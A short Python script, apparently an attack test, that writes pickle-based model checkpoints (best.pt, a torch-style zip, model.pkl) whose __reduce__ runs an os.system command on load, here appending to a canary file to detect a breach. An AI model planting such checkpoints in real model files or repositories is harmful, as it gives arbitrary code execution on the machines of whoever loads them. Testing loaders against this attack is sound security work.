"""Checkpoints that run code when the host loads them: raw pickle, torch zip with a malicious data.pkl, joblib-style .pkl."""

import json
import os
import pickle
import zipfile


class X:
    def __reduce__(s):
        return (os.system, ("echo PWNED >> %s/canary.txt" % os.environ["ATK_OUTSIDE"],))


p = pickle.dumps({"state_dict": X()}, 2)
open("best.pt", "wb").write(p)
open("model.pkl", "wb").write(p)
with zipfile.ZipFile("best2.pt", "w", zipfile.ZIP_STORED) as z:
    z.writestr("archive/data.pkl", p)
    z.writestr("archive/version", "3\n")
    z.writestr("archive/byteorder", "little")
print(
    "ATTACK",
    json.dumps(
        {"attack": "pickle_checkpoint", "breach": None, "detail": "breach if the host's canary changes on load"}
    ),
)
